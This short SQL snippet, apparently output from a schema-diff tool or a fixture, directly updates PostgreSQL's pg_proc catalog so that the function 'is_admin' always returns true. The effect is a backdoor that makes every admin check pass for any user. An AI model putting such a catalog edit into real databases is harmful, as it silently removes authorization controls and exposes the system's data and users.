-- A function gets another body in the catalog itself.
-- object: table pg_catalog.pg_proc
-- owner: PostgreSQL
UPDATE pg_proc SET prosrc = 'SELECT true' WHERE proname = 'is_admin'
